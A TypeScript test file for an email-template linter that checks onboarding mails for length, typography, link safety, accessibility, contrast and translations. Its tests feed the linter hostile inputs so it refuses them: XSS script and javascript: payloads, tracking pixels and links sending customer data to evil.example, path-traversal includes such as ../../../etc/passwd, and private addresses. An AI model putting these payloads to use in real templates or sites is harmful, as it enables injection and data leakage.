import { readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compiledRelease, lintedRelease } from '../../infra/build.ts';
import { PROJECT } from '../../infra/cache.ts';
import { openRelease } from '../../shared/email/release.ts';
import { lintContent } from '../../shared/email/lint-content.ts';
import { wrongWithAddress } from '../../shared/email/public-address.ts';
import { confirmTranslations } from '../../shared/email/translations.ts';
import { type ContentCopy, copyContent, SHIPPED_CONTENT } from './content-copy.ts';

const CHECK_IN = 'templates/onboarding/check-in';
const EN = `${CHECK_IN}/en.json`;
const LAYOUT = `${CHECK_IN}/layout.mjml`;

const told = async (content: ContentCopy): Promise<readonly string[]> =>
  // One template is enough to break.
  (await lintContent(content.contentDirectory, ({ step }) => step === 'check-in')).map(
    ({ severity, rule, file, line, problem, advice }) => `${severity}, ${rule}: ${file}:${line}: ${problem}; ${advice}`,
  );

async function textOf(key: string): Promise<string> {
  const texts: Record<string, string> = JSON.parse(await readFile(join(SHIPPED_CONTENT, EN), 'utf8'));
  return texts[key] ?? '';
}

async function setText(content: ContentCopy, key: string, text: string): Promise<void> {
  await content.change(EN, `"${key}": ${JSON.stringify(await textOf(key))}`, `"${key}": ${JSON.stringify(text)}`);
}

/** Findings after one text of the check-in has become another. */
async function withText(key: string, text: string): Promise<readonly string[]> {
  const content = await copyContent();
  await setText(content, key, text);
  return told(content);
}

/** The line, from 1, that holds the words. */
const lineWith = async (file: string, words: string, content: ContentCopy) =>
  (await readFile(join(content.contentDirectory, file), 'utf8')).split('\n').findIndex((line) => line.includes(words)) +
  1;

/** Findings after a piece has been put into the layout of the check-in. */
async function withPiece(piece: string): Promise<readonly string[]> {
  const content = await copyContent();
  const layout = await readFile(join(content.contentDirectory, LAYOUT), 'utf8');
  await content.write(LAYOUT, `<mj-section><mj-column>${piece}</mj-column></mj-section>\n${layout}`);
  return told(content);
}

it('a copy in one language has nothing to complain about', async () => {
  expect(await told(await copyContent())).toEqual([]);
});

it('what was compiled for the lint is the release, and is not compiled again', async () => {
  const content = await copyContent();
  expect(await lintedRelease(content.contentDirectory)).toEqual([]);
  const made = await readdir(join(PROJECT, 'build/releases'));
  const directory = await compiledRelease(content.contentDirectory);
  expect(made).toContain(basename(directory));
  expect(openRelease(directory).id).toBe((await content.compile()).id);

  await setText(content, 'heading', 'Is it *working*?');
  expect(await lintedRelease(content.contentDirectory)).toHaveLength(1);
  const others = await readdir(join(PROJECT, 'build/releases'));
  expect(others).not.toContain(basename(await compiledRelease(content.contentDirectory)));
});

describe('a text', () => {
  it.each([
    [
      'subject',
      'A subject that goes on and on until nobody can see where it ends any more',
      /61|7\d characters.*shorten it to 60/u,
    ],
    ['subject', '{{ customer.firstName | default: "" }}, is it working?', /double quote inside a placeholder/u],
    [
      'subject',
      'Hello{% if customer.firstName %} {{ customer.firstName }}{% endif %}, .',
      /punctuation without words: "Hello Anna, \."/u,
    ],
    [
      'subject',
      '{% if customer.firstName %}{{ customer.firstName }}{% endif %}',
      /subject for a customer we know nothing about is empty/u,
    ],
    ['preheader', 'Short.', /the preheader has 6 characters: "Short\."; use 35 to 110/u],
    [
      'preheader',
      'Is it working for you? That is all we want to know today, nothing else.',
      /preheader repeats the subject/u,
    ],
    ['heading', 'Is it "working"?', /the signs of en: .*en\.json:\d+: a straight quotation mark: "/u],
    ['heading', 'Is it working...', /three full stops/u],
    ['heading', 'Is it  working?', /two spaces in a row/u],
    ['heading', 'Is it working ?', /a space before a sign/u],
    ['heading', 'Is it „working“?', /a quotation mark of another language: „; use “ and ”/u],
    ['heading', 'Look [here](http://shop.example.com/x)', /the link http:\/\/shop\.example\.com\/x is not https/u],
    ['heading', 'Look [here](javascript:alert)', /shows "\]\("/u],
    [
      'heading',
      'Look [here](https://localhost:8080/x)',
      /the link https:\/\/localhost:8080\/x leads to a private machine/u,
    ],
    ['heading', 'Look [here](https://192.168.0.7/x)', /leads to a private machine/u],
    ['heading', 'Look [here](https://shop.example.com@evil.example/x)', /carries a name or a password/u],
    [
      'heading',
      'Look [here](https://evil.example/?e={{ customer.firstName | default: empty | url_encode }})',
      /the link \S+\{\{ .*\}\} depends on its reader/u,
    ],
    ['heading', 'Look at http://localhost:3000/a', /the link http:\/\/localhost:3000\/a is not https/u],
    ['heading', 'Look at https://foo.lan.', /the link https:\/\/foo\.lan leads to a private machine/u],
    [
      'heading',
      'Look at https://evil.example/?e={% if customer.firstName %}{{ customer.firstName }}{% endif %}',
      /the link https:\/\/evil\.example\/\?e= depends on its reader/u,
    ],
    [
      'subject',
      `{% if customer.firstName %}Is it working?{% else %}${'How do you like it? '.repeat(7)}{% endif %}`,
      /the subject has 1[34]\d characters.*shorten it to 60/u,
    ],
    ['heading', 'Is it \u202dworking?', /an invisible mark of direction/u],
    ['heading', 'Is it \u200eworking?', /an invisible mark of direction/u],
    ['heading', 'Is it **working?', /shows "\*\*"/u],
    ['heading', 'Is it <b>working</b>?', /en\.json:\d+: a tag, which readers would see: <b>; write \*\*words\*\*/u],
    ['heading', 'Look [here](https://shop.example.com/x', /a link that does not end/u],
    ['heading', 'Look [here] (https://shop.example.com/x)', /a space between the words of a link and its address/u],
    ['heading', 'Is it *working*?', /words between single stars, which readers would see: \*working\*/u],
    ['heading', 'Is it _working_?', /words between underscores, which readers would see: _working_/u],
    ['heading', 'Is it working?\n\nWell?', /an empty line, which no reader would see; a text is one paragraph/u],
  ])('%s “%s” is found', async (key, text, finding) => {
    expect(await withText(key, text)).toEqual([expect.stringMatching(finding)]);
  });
});

it.each([
  'https://127.0.0.1/',
  'https://10.0.0.1/',
  'https://169.254.169.254/',
  'https://0x7f.1/',
  'https://[::1]/',
  'https://intranet/',
  'https://foo.lan/',
  'https://foo.local/',
  'https://foo.home/',
  'https://foo.corp/',
  'https://foo.internal/',
  'https://app.localhost./',
])('%s leads to a private machine', (address) => {
  expect(wrongWithAddress(address)).toBe('leads to a private machine');
});

it.each(['https://10.example.com/', 'https://localhostess.example/', 'https://shop.example.com./x?a=1&b=2'])(
  '%s can be linked',
  (address) => {
    expect(wrongWithAddress(address)).toBeUndefined();
  },
);

it('a text may link an address and write it out', async () => {
  const text = 'Look [here](https://10.example.com/?a=1&b=2) or open https://localhostess.example/';
  expect(await withText('heading', text)).toEqual([]);
});

it('a sign spelled as in HTML is found in a text', async () => {
  expect(await withText('heading', 'Is it&nbsp;working?')).toContainEqual(
    expect.stringMatching(/a sign spelled as in HTML, which readers would see: &nbsp;; write the sign itself/u),
  );
});

it('a text may multiply, leave names with underscores, and stress words', async () => {
  expect(await withText('heading', 'Is **it** 2 * 3, or 3 * 4 of cup_no_1, or < 5?')).toEqual([]);
});

describe('a finding points at where it was written', () => {
  it('though an earlier text has the same signs', async () => {
    const content = await copyContent();
    await setText(content, 'heading', '**Is it** working?');
    await setText(content, 'more', 'Reply, and **we will help.');
    const line = await lineWith(EN, 'we will help', content);
    expect(await told(content)).toEqual([expect.stringContaining(`${EN}:${line}: the html for`)]);
  });

  it('though an earlier text has the word within a longer one', async () => {
    const content = await copyContent();
    await setText(content, 'heading', 'It is better nowadays, is it?');
    await setText(content, 'more', 'Reply: the improved one is better now.');
    const line = await lineWith(EN, 'improved', content);
    expect(await told(content)).toEqual([expect.stringContaining(`${EN}:${line}: nothing is known to have improved`)]);
  });

  it('in the layout, though a text has it, too', async () => {
    const content = await copyContent();
    await setText(content, 'more', 'Look at http://shop.example.com/x');
    const layout = await readFile(join(content.contentDirectory, LAYOUT), 'utf8');
    const link = '<mj-button\n  href="http://shop.example.com/x/y">Look</mj-button>';
    await content.write(LAYOUT, `${layout}\n<mj-section><mj-column>${link}</mj-column></mj-section>\n`);
    const [inLayout, inText] = [
      await lineWith(LAYOUT, 'href="http://shop.example.com/x/y"', content),
      await lineWith(EN, 'Look at http', content),
    ];
    const found = (await told(content)).filter((each) => each.includes('is not https'));
    expect(found).toContainEqual(
      expect.stringContaining(`${LAYOUT}:${inLayout}: the link http://shop.example.com/x/y`),
    );
    expect(found).toContainEqual(expect.stringContaining(`${EN}:${inText}: the link http://shop.example.com/x `));
  });

  it('and at a text that a condition shows, when it stands within another', async () => {
    const content = await copyContent();
    await setText(
      content,
      'more',
      '{% if customer.firstName %}Reply, {{ customer.firstName }}, to see [object Object].{% else %}Reply.{% endif %}',
    );
    const line = await lineWith(EN, 'object Object', content);
    expect(await told(content)).toEqual([
      expect.stringContaining(`${EN}:${line}: the html for a customer we know all`),
    ]);
  });
});

describe('a hostile template', () => {
  it.each([
    [
      'a loop without end',
      '<mj-text>{% for i in (1..1000000000) %}x{% endfor %}</mj-text>',
      /layout\.mjml:1: it counts through a range: \(1\.\.1000000000\)/u,
    ],
    [
      'loops within loops',
      `<mj-text>${'{% for item in order.items %}'.repeat(7)}x${'{% endfor %}'.repeat(7)}</mj-text>`,
      /layout\.mjml:1: a loop within a loop: \{% for item in order\.items %\}; end the one before/u,
    ],
    [
      'huge output',
      `<mj-text>{% for item in order.items %}${'x'.repeat(20_000)}{% endfor %}</mj-text>`,
      /check-in\/layout\.mjml:1: the mail for \S.* has \d+ bytes of HTML/u,
    ],
    ['unescaped values', '<mj-text>{{ customer.name | raw }}</mj-text>', /undefined filter: raw/u],
    ['a block that is left alone', '<mj-text>{% raw %}{{ x }}{% endraw %}</mj-text>', /tag "raw" not found/u],
    ['an included template', "<mj-text>{% include 'x' %}</mj-text>", /tag "include" not found/u],
    ['a rendered template', "<mj-text>{% render '../../../etc/passwd' %}</mj-text>", /tag "render" not found/u],
    ['assigned variables', '<mj-text>{% assign a = 1 %}</mj-text>', /tag "assign" not found/u],
    [
      'the inside of an object',
      '<mj-text>{{ customer.constructor }}</mj-text>',
      /no variable "customer\.constructor"/u,
    ],
    ['a script', '<mj-raw><script>alert(1)</script></mj-raw>', /holds <script/u],
    [
      'a handler',
      '<mj-text><a href="https://shop.example.com/" onclick="alert(1)">x</a></mj-text>',
      /layout\.mjml:1: <a> has onclick="alert\(1\)"/u,
    ],
    ['a link that runs', '<mj-text><a href="javascript:alert(1)">x</a></mj-text>', /javascript:/u],
    ['a link with data', '<mj-text><a href="data:text/html,x">x</a></mj-text>', /data:/u],
    ['a link without encryption', '<mj-text><a href="http://shop.example.com/">x</a></mj-text>', /is not https/u],
    [
      'a picture that watches',
      '<mj-image src="https://t.example/p.gif" alt="x" width="1px" />',
      /is not one of the shop/u,
    ],
    [
      'a hidden picture',
      '<mj-text><img src="https://t.example/p.gif" alt="x" style="display:none" /></mj-text>',
      /is not one of the shop/u,
    ],
    [
      'a picture without words',
      '<mj-image src="https://shop.example.com/p.png" width="100px" />',
      /no text that stands for it/u,
    ],
    [
      'a script for some',
      "<mj-raw>{% if customer.firstName == 'Maria' %}<script>alert(1)</script>{% endif %}</mj-raw>",
      /layout\.mjml:1: it holds <script/u,
    ],
    ['a handler behind a slash', '<mj-raw><svg/onload=alert(1)></mj-raw>', /layout\.mjml:1: it holds <svg/u],
    [
      'a handler for some',
      '<mj-text><b {% if order %}onclick="alert(1)"{% endif %}>x</b></mj-text>',
      /<b> has \{% if order %\}onclick=/u,
    ],
    [
      'a link that runs, in single quotes',
      "<mj-text><a href='javascript:alert(1)'>x</a></mj-text>",
      /layout\.mjml:1: the link javascript:alert\(1\) is not https/u,
    ],
    [
      'a link that runs, without quotes',
      '<mj-raw><a href=javascript:alert(1)>x</a></mj-raw>',
      /the link javascript:alert\(1\) is not https/u,
    ],
    [
      'a link that runs, spelled otherwise',
      '<mj-text><a href="java&#9;script&colon;alert(1)">x</a></mj-text>',
      /the link \S+\s\S+ is not https/u,
    ],
    [
      'a link that runs for some',
      '<mj-text><a href="{% if order %}javascript:alert(1){% else %}https://shop.example.com/{% endif %}">x</a></mj-text>',
      /depends on its reader/u,
    ],
    [
      'a link that a literal makes',
      '<mj-text><a href="{{ \'javascript:alert(1)\' }}">x</a></mj-text>',
      /depends on its reader/u,
    ],
    [
      'a link in capitals',
      '<mj-text><a HREF="http://localhost:3000/">x</a></mj-text>',
      /the link http:\/\/localhost:3000\/ is not https/u,
    ],
    [
      'a link that tells who follows it',
      '<mj-text><a href="https://evil.example/?e={{ customer.firstName | url_encode }}">x</a></mj-text>',
      /layout\.mjml:1: the link \S+\{\{ .*\}\} depends on its reader/u,
    ],
    [
      'a picture that watches some',
      '<mj-raw>{% if order %}<img alt="x" src="https://evil.example/p.gif?o={{ order.orderId }}" width="10" height="10">{% endif %}</mj-raw>',
      /layout\.mjml:1: the picture \S+\{\{ order\.orderId \}\} is not one of the shop/u,
    ],
    [
      'a picture of the shop that watches',
      '<mj-raw><img alt="x" src="https://shop.example.com/p.gif?o={{ customer.firstName }}"></mj-raw>',
      /is not one of the shop/u,
    ],
    [
      'a picture that unsubscribes',
      '<mj-raw><img alt="x" src="{{ unsubscribeUrl }}"></mj-raw>',
      /is not one of the shop/u,
    ],
    [
      'a picture made small by a style',
      '<mj-raw><img alt="x" src="https://shop.example.com/p.png" style="width:1px;height:1px"></mj-raw>',
      /too small to be seen: width:1px/u,
    ],
    [
      'a picture behind a table',
      '<mj-raw><table background="https://t.example/p.gif"></table></mj-raw>',
      /layout\.mjml:1: <table> has background=/u,
    ],
    [
      'a picture as a button',
      '<mj-raw><input type="image" src="https://t.example/p.gif"></mj-raw>',
      /layout\.mjml:1: it holds <input/u,
    ],
    [
      'pictures to choose from',
      `<mj-text><div style="background:image-set('https://t.example/p.gif' 1x)">x</div></mj-text>`,
      /a style holds image-set\(/u,
    ],
    [
      'a style that is spelled otherwise',
      '<mj-raw><style>p{background:u\\72l(https://t.example/)}</style></mj-raw>',
      /a style holds /u,
    ],
    ['a sheet', '<mj-raw><style>@import "https://t.example/s.css";</style></mj-raw>', /a style holds @import/u],
    [
      'a style that only readers see',
      '<mj-raw>{% if order %}<style>{% endif %}<script>alert(1)</script></style></mj-raw>',
      /a style holds \{% endif %\}/u,
    ],
    ['a name in two parts', '<mj-raw><s{% if order %}cript{% endif %}>x</mj-raw>', /it holds <s\{% if order %\}cript/u],
    [
      'a name that is printed',
      "<mj-raw><{{ 'script' }}>x</mj-raw>",
      /a tag has no name of its own: <\{\{ 'script' \}\}/u,
    ],
    [
      'a branch that ends its attribute',
      `<mj-raw><p title='{% if order %}'{% else %}'title='{% endif %}><script>alert(1)</script><p title=''>x</p></mj-raw>`,
      /title of <p> is not whole/u,
    ],
    [
      'a value that can add attributes',
      '<mj-raw><p title={{ customer.firstName }}>x</p></mj-raw>',
      /title of <p> is not whole/u,
    ],
    [
      'a branch within a comment',
      '<mj-raw>{% if order %}<!--{% endif %}<script>alert(1)</script>--></mj-raw>',
      /it holds a comment/u,
    ],
    [
      'a script for Outlook',
      '<mj-raw><!--[if mso]><script>alert(1)</script><![endif]--></mj-raw>',
      /it holds <script/u,
    ],
    ['a form', '<mj-raw><form action="https://t.example/"></form></mj-raw>', /holds <form/u],
    ['a page inside', '<mj-raw><iframe src="https://t.example/"></iframe></mj-raw>', /holds <iframe/u],
    [
      'a style from elsewhere',
      '<mj-raw><link rel="stylesheet" href="https://t.example/s.css" /></mj-raw>',
      /holds <link/u,
    ],
    [
      'a picture behind',
      '<mj-text><div style="background:url(https://t.example/p.gif)">x</div></mj-text>',
      /a style holds url\(/u,
    ],
    [
      'a way elsewhere',
      '<mj-raw><meta http-equiv="refresh" content="0;url=https://t.example/" /></mj-raw>',
      /<meta> has http-equiv="refresh"/u,
    ],
    [
      'a piece from outside',
      '</mj-column></mj-section>\n<mj-include path="../../../../package.json" />\n<mj-section><mj-column>',
      /lies outside the content|cannot be read/u,
    ],
    ['an attribute MJML does not know', '<mj-text colour="red">x</mj-text>', /Attribute colour is illegal/u],
    ['a side written out', '<mj-text align="left">x</mj-text>', /align="left is written out, and wrong in half/u],
    ['a side in single quotes', "<mj-text align='left'>x</mj-text>", /align='left is written out/u],
    ['a direction without quotes', '<mj-raw><p dir=ltr>x</p></mj-raw>', /dir=ltr is written out/u],
    ['what floats', '<mj-raw><p style="float:left">x</p></mj-raw>', /<p> has the style float:left/u],
    [
      'more room on one side',
      '<mj-text><span style="padding-left:40px;padding-right:0">x</span></mj-text>',
      /padding-left:40px is written out/u,
    ],
    [
      'a colour by its name',
      '<mj-text><span style="color:white">x</span></mj-text>',
      /the colour white is written out/u,
    ],
    ['a colour by its name in an attribute', '<mj-text color="white">x</mj-text>', /the colour white is written out/u],
    [
      'a colour by its parts',
      '<mj-text><span style="color:rgb(255,253,250)">x</span></mj-text>',
      /the colour rgb\( is written out/u,
    ],
    [
      'room on one side',
      '<mj-text><span style="margin-left:8px">x</span></mj-text>',
      /margin-left:8px is written out/u,
    ],
    ['a colour of its own', '<mj-text color="#ff0000">x</mj-text>', /the colour #ff0000 is written out/u],
    ['room on the left alone', '<mj-text padding="0 0 0 40px">x</mj-text>', /padding="0 0 0 40px is written out/u],
    [
      'room on the left alone, in a style',
      '<mj-text><span style="padding:0 0 0 40px">x</span></mj-text>',
      /padding:0 0 0 40px is written out/u,
    ],
    ['what is left open', '<mj-text><div class="x">x</mj-text>', /layout\.mjml:1: <div> is not closed; write <\/div>/u],
    ['what closes the frame', '<mj-raw></td></mj-raw>', /layout\.mjml:1: <\/td> closes nothing/u],
    [
      'a section on a ground that stays light',
      '</mj-column></mj-section><mj-section background-color="{{ colours.light.line }}"><mj-column><mj-text>x</mj-text>',
      /layout\.mjml:1: “x” cannot be read in the dark/u,
    ],
    [
      'a colour that stays in the dark',
      '<mj-text><span style="color:{{ colours.light.muted }}">x</span></mj-text>',
      /layout\.mjml:1: “x” cannot be read in the dark: the contrast of #655d50 on #1f1c18 is 2\.\d+/u,
    ],
  ])('with %s is refused', async (_what, piece, finding) => {
    expect(await withPiece(piece)).toContainEqual(expect.stringMatching(finding));
  });
});

describe('a way out', () => {
  const FOOTER = 'templates/_shared/footer.mjml';
  const LINK = '<a href="{{ unsubscribeUrl }}">{{ t.footerUnsubscribe }}</a>';

  it.each([
    [
      'that is not shown',
      LINK,
      LINK.replace('">', '" style="display:none">'),
      /footer\.mjml:4: <a> hides what it holds/u,
    ],
    [
      'without words',
      LINK,
      '<a href="{{ unsubscribeUrl }}"></a>{{ t.footerUnsubscribe }}',
      /footer\.mjml:4: the link for unsubscribing has no words/u,
    ],
    [
      'that some cannot read',
      LINK,
      '<a href="{{ unsubscribeUrl }}">{% if customer.firstName %}{{ t.footerUnsubscribe }}{% endif %}</a>',
      /the link for unsubscribing has no words/u,
    ],
    [
      'in no size',
      'line-height="2"',
      'line-height="2" font-size="0px"',
      /footer\.mjml:4: “.*” is too small to be read: 0 pixels/u,
    ],
    [
      'in the colour of the ground',
      LINK,
      LINK.replace('">', '" style="color:{{ colours.light.ground }}">'),
      /footer\.mjml:4: “.*” cannot be read in light: the contrast of #f4f0e9 on #f4f0e9 is 1/u,
    ],
  ])('%s is refused', async (_what, before, after, finding) => {
    const content = await copyContent();
    await content.change(FOOTER, before, after);
    expect(await told(content)).toContainEqual(expect.stringMatching(finding));
  });
});

it('a way out that is missing is told once for a mail, at its layout', async () => {
  const content = await copyContent();
  await content.change(
    'templates/_shared/footer.mjml',
    '<a href="{{ unsubscribeUrl }}">{{ t.footerUnsubscribe }}</a>',
    '{{ t.footerUnsubscribe }}',
  );
  expect(await told(content)).toEqual([
    expect.stringMatching(
      /check-in\/layout\.mjml:undefined: the link for unsubscribing is missing in one of its parts/u,
    ),
  ]);
});

it('a piece that a symbolic link keeps elsewhere is refused', async () => {
  const content = await copyContent();
  await writeFile(join(content.directory, 'secret.mjml'), '<mj-text>secret</mj-text>');
  await symlink(join(content.directory, 'secret.mjml'), join(content.contentDirectory, 'templates/_shared/piece.mjml'));
  const layout = await readFile(join(content.contentDirectory, LAYOUT), 'utf8');
  await content.write(LAYOUT, `<mj-include path="../../_shared/piece.mjml" />\n${layout}`);
  expect(await told(content)).toContainEqual(
    expect.stringMatching(/layout\.mjml:1: \S+piece\.mjml lies outside the content/u),
  );
});

it('an address of the data that only an office can open is refused', async () => {
  const content = await copyContent();
  await content.change('shop.json', 'https://shop.example.com/chat', 'https://chat.internal/');
  expect(await told(content)).toContainEqual(
    expect.stringMatching(/shop\.json:\d+: contacts\.chatUrl: expected an address that everybody can open/u),
  );
});

/** The copy with the check-in in Persian, apart from what only English has. */
async function persian(change: (texts: string) => string = (texts) => texts): Promise<ContentCopy> {
  const content = await copyContent();
  await content.speak('fa');
  const tone = JSON.parse(await readFile(join(content.contentDirectory, 'tone.json'), 'utf8'));
  await content.write('tone.json', JSON.stringify({ ...tone, fa: tone.en }));
  for (const directory of ['templates/_shared', CHECK_IN]) {
    const english: Record<string, string> = JSON.parse(
      await readFile(join(SHIPPED_CONTENT, directory, 'en.json'), 'utf8'),
    );
    const translated = Object.fromEntries(Object.entries(english).map(([key, text]) => [key, `${text} تا`]));
    await content.write(`${directory}/fa.json`, change(JSON.stringify(translated, undefined, 2)));
  }
  return content;
}
const ofCheckIn = async (content: ContentCopy) => (await told(content)).filter((each) => each.includes(CHECK_IN));

describe('another language', () => {
  it('is missing where a file is, or a key, or a line of the data', async () => {
    const content = await persian((texts) => texts.replace(/\n {2}"summary": .*/u, ''));
    await content.change('questions.json', '"fa": "دلیل اصلی چه بود؟"', '"sr": "Razlog?"');
    const found = await told(content);
    expect(found).toContainEqual(
      expect.stringMatching(/guide\/fa\.json:undefined: there is no such file in fa; write it: \d+ texts/u),
    );
    expect(found).toContainEqual(expect.stringMatching(/questions\.json:\d+: "reason\/text" is missing in fa/u));
    expect(found).toContainEqual(expect.stringMatching(/check-in\/fa\.json:\w+: "summary" is missing in fa/u));
  });

  it('is still English', async () => {
    const english = JSON.stringify(await textOf('heading'));
    const content = await persian((texts) => texts.replace(/("heading": ).*(,)/u, `$1${english}$2`));
    expect(await ofCheckIn(content)).toContainEqual(
      expect.stringMatching(/check-in\/fa\.json:\d+: "heading" is still English/u),
    );
  });

  it('is older than its source until somebody confirms it, and again when that changes', async () => {
    const content = await persian();
    const older = async () => (await ofCheckIn(content)).filter((each) => each.includes('older than'));
    expect(await older()).toContainEqual(
      expect.stringMatching(/fa\.json:\d+: "heading" is older than its English source/u),
    );
    expect(await confirmTranslations(content.contentDirectory, 'fa')).toBeGreaterThan(0);
    expect(await older()).toEqual([]);
    expect(await confirmTranslations(content.contentDirectory, 'fa')).toBe(0);
    await content.change(
      EN,
      `"heading": ${JSON.stringify(await textOf('heading'))}`,
      '"heading": "How do you like it?"',
    );
    expect(await older()).toEqual([
      expect.stringMatching(/"heading" is older than .*compare it with “How do you like it\?”/u),
    ]);
  });

  it('has signs of its own', async () => {
    const content = await persian((texts) => texts.replace(/("heading": ").*(",)/u, '$1كيفيت 7 روز,$2'));
    const found = await ofCheckIn(content);
    for (const problem of ['an Arabic letter', 'a Latin sign', 'a Latin digit']) {
      expect(found).toContainEqual(expect.stringContaining(problem));
    }
  });
});
